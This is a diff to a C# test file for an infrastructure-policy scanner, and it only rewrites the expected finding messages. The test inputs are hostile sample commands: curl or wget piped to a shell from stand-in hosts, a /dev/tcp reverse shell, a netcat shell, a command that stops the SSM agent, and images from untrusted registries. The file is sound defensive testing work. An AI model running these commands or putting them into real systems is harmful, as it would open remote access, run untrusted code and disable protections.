@@ -2,7 +2,7 @@ namespace Infra.Policy.Tests.Rules.Own.Code;
 
 public sealed class CodeTests
 {
-    private const string Runs = "it runs code that is not the program's own, or trusts whom it should not";
+    private const string Runs = "it runs foreign code, or extends trust";
 
     [Theory]
     [InlineData("aws_lambda_function", """{ "environment": { "variables": { "AWS_LAMBDA_EXEC_WRAPPER": "/opt/x" } } }""", "environment.variables.AWS_LAMBDA_EXEC_WRAPPER", "AWS_LAMBDA_EXEC_WRAPPER")]
@@ -19,18 +19,18 @@ public sealed class CodeTests
     public void Variable_that_tunes_a_runtime_passes(string type, string body) => Assert.Equal([], TestEstate.With(type, body).Findings("INFRA-CODE-INJECTION"));
 
     [Theory]
-    [InlineData("aws_instance", "user_data", "#!/bin/sh\ncurl -fsSL https://x.lynx.example/i.sh | sudo -E bash -\n", "\"curl -fsSL https://x.lynx.example/i.sh | sudo -E bash\" in its text: it runs what somebody else may change")]
-    [InlineData("aws_instance", "user_data", "IyEvYmluL3NoCndnZXQgLXFPLSBodHRwczovL3gvaSB8IHNoCg==", "\"wget -qO- https://x/i | sh\" in its text: it runs what somebody else may change")]
-    [InlineData("aws_codebuild_project", "buildspec", "commands:\n - bash <(curl -s https://x/i)", "\"bash <(curl\" in its text: it runs what somebody else may change")]
-    [InlineData("google_compute_instance", "metadata_startup_script", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", "\"/dev/tcp/\" in its text: it opens a way in")]
-    [InlineData("aws_ssm_document", "content", """{"runCommand":["systemctl stop amazon-ssm-agent"]}""", "\"systemctl stop amazon-ssm-agent\" in its text: it switches off what protects")]
-    [InlineData("aws_instance", "user_data_base64", "H4sIAAAAAAAAA0vNSc1T", "packed: nobody can read what it runs")]
+    [InlineData("aws_instance", "user_data", "#!/bin/sh\ncurl -fsSL https://x.lynx.example/i.sh | sudo -E bash -\n", "\"curl -fsSL https://x.lynx.example/i.sh | sudo -E bash\" in its text: it runs downloaded code")]
+    [InlineData("aws_instance", "user_data", "IyEvYmluL3NoCndnZXQgLXFPLSBodHRwczovL3gvaSB8IHNoCg==", "\"wget -qO- https://x/i | sh\" in its text: it runs downloaded code")]
+    [InlineData("aws_codebuild_project", "buildspec", "commands:\n - bash <(curl -s https://x/i)", "\"bash <(curl\" in its text: it runs downloaded code")]
+    [InlineData("google_compute_instance", "metadata_startup_script", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", "\"/dev/tcp/\" in its text: it opens remote access")]
+    [InlineData("aws_ssm_document", "content", """{"runCommand":["systemctl stop amazon-ssm-agent"]}""", "\"systemctl stop amazon-ssm-agent\" in its text: it disables a protection")]
+    [InlineData("aws_instance", "user_data_base64", "H4sIAAAAAAAAA0vNSc1T", "packed, so it can't be reviewed")]
     public void Script_that_somebody_else_may_change_or_that_opens_a_way_in_is_found(string type, string argument, string script, string found) =>
         Assert.Equal([$"{type}.it {argument}: {found}"], Script(type, argument, script));
 
     [Fact]
     public void Command_that_is_a_list_of_words_is_read_as_one() => Assert.Equal(
-        ["azurerm_container_group.it container.commands: \"nc 10.0.0.9 443 -e\" in its text: it opens a way in"],
+        ["azurerm_container_group.it container.commands: \"nc 10.0.0.9 443 -e\" in its text: it opens remote access"],
         TestEstate.With("azurerm_container_group", """{ "container": { "commands": ["sh", "-c", "nc 10.0.0.9 443 -e sh"] } }""").Findings("INFRA-SCRIPT"));
 
     [Theory]
@@ -41,10 +41,10 @@ public sealed class CodeTests
     public void Ordinary_script_passes(string argument, string script) => Assert.Equal([], Script("aws_instance", argument, script));
 
     [Theory]
-    [InlineData("kubernetes_deployment_v1", """{ "container": { "image": "registry.evil.example/x@sha256:00" } }""", "container.image: from the registry registry.evil.example, which the estate does not know")]
-    [InlineData("aws_ecs_task_definition", """{ "container_definitions": "[{\"image\":\"203.0.113.5:5000/x:1\"}]" }""", "container_definitions: from the registry 203.0.113.5:5000, which the estate does not know")]
-    [InlineData("azurerm_linux_virtual_machine", """{ "source_image_id": "/communityGalleries/x/images/y" }""", "source_image_id: \"/communityGalleries/x/images/y\": in its gallery anybody, or another tenant, publishes")]
-    [InlineData("azurerm_linux_virtual_machine", """{ "source_image_reference": { "publisher": "evilcorp" } }""", "source_image_reference.publisher: \"evilcorp\": none of the makers of systems")]
+    [InlineData("kubernetes_deployment_v1", """{ "container": { "image": "registry.evil.example/x@sha256:00" } }""", "container.image: from the registry registry.evil.example, which the estate does not trust")]
+    [InlineData("aws_ecs_task_definition", """{ "container_definitions": "[{\"image\":\"203.0.113.5:5000/x:1\"}]" }""", "container_definitions: from the registry 203.0.113.5:5000, which the estate does not trust")]
+    [InlineData("azurerm_linux_virtual_machine", """{ "source_image_id": "/communityGalleries/x/images/y" }""", "source_image_id: \"/communityGalleries/x/images/y\": its gallery is public, or belongs to another tenant")]
+    [InlineData("azurerm_linux_virtual_machine", """{ "source_image_reference": { "publisher": "evilcorp" } }""", "source_image_reference.publisher: \"evilcorp\": not a known publisher of operating systems")]
     public void Image_of_a_stranger_is_found(string type, string body, string found) => Assert.Equal([$"{type}.it {found}"], TestEstate.With(type, body).Findings("INFRA-FOREIGN-IMAGE"));
 
     [Theory]
